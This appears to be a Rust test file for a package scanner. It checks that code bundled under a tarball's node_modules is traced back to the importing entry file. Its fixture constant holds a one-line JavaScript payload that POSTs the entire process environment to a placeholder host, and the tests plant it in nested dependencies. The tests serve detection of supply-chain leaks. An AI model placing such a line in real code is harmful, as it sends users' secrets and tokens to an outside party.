//! Packages that lie in the tarball: what is loaded by its name is the file below `node_modules`.

use weir_model::contents::{SourceKind, Surface};

use super::run;

const SENDS: &str = "require('https').request('https://a.example/', { method: 'POST' }).end(JSON.stringify(process.env));";

/// From where the environment is sent away, in a package of these files.
fn sent(files: &[(&str, &str)]) -> Option<Surface> {
    let facts = run(files, &[], &[(Surface::Import, "lib/index.js")]);
    let mut flows = facts.flows.iter();
    let flow = flows.find(|flow| flow.source == SourceKind::Environment)?;
    Some(flow.surface)
}

#[test]
fn a_package_in_the_tarball_is_loaded_by_its_name() {
    let deep = "lib/node_modules/dep/index.js";
    for (code, path, expected) in [
        (
            "require('dep')",
            "node_modules/dep/index.js",
            Surface::Import,
        ),
        (
            "import 'dep/sub'",
            "node_modules/dep/sub.js",
            Surface::Import,
        ),
        ("import 'dep'", deep, Surface::Import),
        (
            "require('dep')",
            "node_modules/@a/dep/index.js",
            Surface::Unreferenced,
        ),
        (
            "require('node:dep')",
            "node_modules/dep/index.js",
            Surface::Unreferenced,
        ),
        (
            "require('dep')",
            "vendor/dep/index.js",
            Surface::Unreferenced,
        ),
    ] {
        let files = [("lib/index.js", code), (path, SENDS)];
        assert_eq!(sent(&files), Some(expected), "{code} of {path}");
    }
    // Their own dependencies, beside them.
    let files = [
        ("lib/index.js", "require('dep')"),
        ("node_modules/dep/index.js", "require('inner')"),
        ("node_modules/dep/node_modules/inner/index.js", SENDS),
    ];
    assert_eq!(sent(&files), Some(Surface::Import));
}
